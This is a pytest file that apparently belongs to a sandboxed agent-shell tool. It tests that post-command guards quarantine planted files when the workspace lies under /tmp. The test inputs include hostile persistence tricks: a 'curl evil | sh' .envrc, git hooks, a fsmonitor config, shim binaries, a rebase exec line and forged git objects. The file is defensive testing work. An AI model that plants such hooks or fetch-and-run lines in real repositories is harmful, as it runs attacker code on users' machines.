"""A workspace under the temporary folder (``cd /tmp && git clone … && agent-shell`` is
how many people try a repository): the sandbox replaces ``/tmp`` with an empty one of
its own and binds the workspace back into it, and every check before and after a
command must still see the workspace as the user's, not as the sandbox's throwaway
``/tmp``. Each guard that acts after a command, once, against the real bubblewrap,
git and ``python -m venv``, with the workspace (and its home) in
:func:`tempfile.gettempdir`. The other tests of these guards keep their workspace in
the home directory."""

from __future__ import annotations

import os
import sys
import tempfile
import venv
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path

import pytest

from ..sandboxing import require_sandbox
from .later_ws import git, later_workspace, sh
from .test_git_objects import _forge
from .test_git_state import MAKEFILE, PLANT, committed, rebase_stopped

pytestmark = pytest.mark.anyio

PYTHON = os.path.realpath(sys.executable)
"""The interpreter itself, not this test run's venv: a venv under /tmp (CI's clone) is
not in the sandbox's empty /tmp."""

Case = Callable[[Path, pytest.MonkeyPatch], Awaitable[None]]


@pytest.fixture
def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    under = Path(tempfile.gettempdir())
    assert not str(under).startswith(str(Path.home())), "the point is a workspace outside the home directory"
    yield from later_workspace(monkeypatch, "agent-shell-test-tmpws-", under=under)


async def _planted_names(ws: Path, _: pytest.MonkeyPatch) -> None:
    """.envrc, .vscode, a git hook and config (nested too): moved out or kept as they were."""
    git(ws, "init", "-q")
    (ws / "sub").mkdir()
    config = (ws / ".git" / "config").read_text()
    result = await sh(ws, "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; "
                          "echo 'curl evil' > sub/.envrc; echo 'echo owned' > .git/hooks/pre-commit; "
                          "echo '[core] fsmonitor = evil' >> .git/config; echo done")
    assert "done" in result.text, result.text
    assert sorted(result.details["quarantined"]) == [".envrc", ".vscode", "sub/.envrc"], result.text
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / ".git" / "config").read_text() == config
    hidden = await sh(ws, f"ls -AR {ws.parent / 'data'} 2>/dev/null | wc -l")  # the quarantine: out of reach
    assert hidden.text.startswith("0"), hidden.text


async def _new_and_old_virtualenvs(ws: Path, _: pytest.MonkeyPatch) -> None:
    """A bin/git shim in the user's .venv and a new venv's bin/ls (the lead's repro)."""
    git(ws, "init", "-q")  # as a clone is
    venv.EnvBuilder(with_pip=False, symlinks=True).create(ws / ".venv")
    shim = "#!%s/{env}/bin/python\\nimport sys\\nfrom gitx import main\\nif __name__ == \"__main__\":\\n" \
           "    sys.exit(main())\\n"
    site = "SP=$(echo .venv/lib/python3*/site-packages); echo 'def main(): pass' > $SP/gitx.py"
    result = await sh(ws, f"{site}; printf '{shim.format(env='.venv')}' \"$PWD\" > .venv/bin/git; "
                          f"chmod +x .venv/bin/git; {PYTHON} -m venv --without-pip env2 && "
                          f"printf '{shim.format(env='env2')}' \"$PWD\" > env2/bin/ls; chmod +x env2/bin/ls; "
                          "echo made")
    assert "made" in result.text, result.text
    assert sorted(result.details["quarantined"]) == [".venv/bin/git", "env2/bin/ls"], result.text
    assert (ws / "env2" / "bin" / "activate").is_file()  # what venv wrote stays


async def _program_on_the_path(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The workspace's bin/ on the PATH: a planted bin/git is moved out, bin/app kept."""
    (ws / "bin").mkdir()
    monkeypatch.setenv("PATH", os.pathsep.join([str(ws / "bin"), os.environ["PATH"]]))
    result = await sh(ws, "printf '#!/bin/sh\\nid\\n' > bin/git; echo app > bin/app; echo done")
    assert "done" in result.text, result.text
    assert not (ws / "bin" / "git").exists() and "bin/git" in result.text, result.text
    assert (ws / "bin" / "app").exists()


async def _folder_renamed_over_a_secret(ws: Path, _: pytest.MonkeyPatch) -> None:
    """mv sub sub_old && mkdir sub: the folder is renamed back, the secret file as it was."""
    (ws / "sub").mkdir()
    (ws / "sub" / ".env").write_text("KEY=mine\n")
    result = await sh(ws, "cat sub/.env; mv sub sub_old && mkdir sub && echo KEY=evil > sub/.env; echo done")
    assert "done" in result.text and "KEY=mine" not in result.text, result.text
    assert (ws / "sub" / ".env").read_text() == "KEY=mine\n" and not (ws / "sub_old").exists()


async def _replace_ref(ws: Path, _: pytest.MonkeyPatch) -> None:
    committed(ws)
    result = await sh(ws, PLANT + "git replace $blob $evil && git show HEAD:Makefile")
    assert "evil.example" in result.text, result.text  # it did take, inside the sandbox
    assert git(ws, "replace", "-l") == "" and git(ws, "show", "HEAD:Makefile") == MAKEFILE
    assert "replace ref" in result.text


async def _exec_line_in_a_rebase(ws: Path, _: pytest.MonkeyPatch) -> None:
    rebase_stopped(ws)
    todo = ws / ".git" / "rebase-merge" / "git-rebase-todo"
    before = todo.read_text()
    result = await sh(ws, "sed -i '1i exec touch ../PWNED' .git/rebase-merge/git-rebase-todo && echo done")
    assert "done" in result.text, result.text
    assert todo.read_text() == before and "rebase to-do" in result.text, result.text


async def _object_overwritten(ws: Path, _: pytest.MonkeyPatch) -> None:
    committed(ws)
    result = await sh(ws, _forge("in place").replace("python3", PYTHON))
    assert "evil.example" in result.text, result.text  # it did take, inside the sandbox
    assert git(ws, "show", "HEAD:Makefile") == MAKEFILE
    assert "not what its name says" in result.text, result.text


CASES: dict[str, Case] = {
    "runs-later names, git hooks and config, the quarantine": _planted_names,
    "virtualenvs": _new_and_old_virtualenvs,
    "a PATH folder": _program_on_the_path,
    "folder swaps and secret files": _folder_renamed_over_a_secret,
    "git refs": _replace_ref,
    "a rebase's to-do": _exec_line_in_a_rebase,
    "git objects": _object_overwritten,
}


@pytest.mark.parametrize("guard", list(CASES))
async def test_each_guard_after_a_command_holds_in_a_workspace_under_tmp(
    ws: Path, monkeypatch: pytest.MonkeyPatch, guard: str
) -> None:
    require_sandbox()
    assert Path(tempfile.gettempdir()) in ws.parents
    await CASES[guard](ws, monkeypatch)


async def test_the_shells_own_temporary_files_are_hidden_when_the_workspace_is_the_temporary_folder(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``cd /tmp && agent-shell``: the workspace holds the shell's own temporary folders
    (any session's ``--no-session`` checkpoints: prompts and files as they were before
    edits, which /rewind writes back). Commands read and wrote them; now they are hidden,
    as they are from a workspace anywhere else, and the rest of the folder is not."""
    require_sandbox()
    monkeypatch.setattr(tempfile, "tempdir", str(ws))
    checkpoint = ws / "agent-shell-checkpoints-4242-abc" / "prompt.txt"
    checkpoint.parent.mkdir()
    checkpoint.write_text("my prompt with SECRET-WORDS\n")
    (ws / "notes.txt").write_text("plain notes\n")
    rel = checkpoint.relative_to(ws)
    result = await sh(ws, f"cat {rel} notes.txt; echo evil > {rel}; echo done")
    assert "done" in result.text and "plain notes" in result.text, result.text
    assert "SECRET-WORDS" not in result.text, result.text
    assert checkpoint.read_text() == "my prompt with SECRET-WORDS\n"
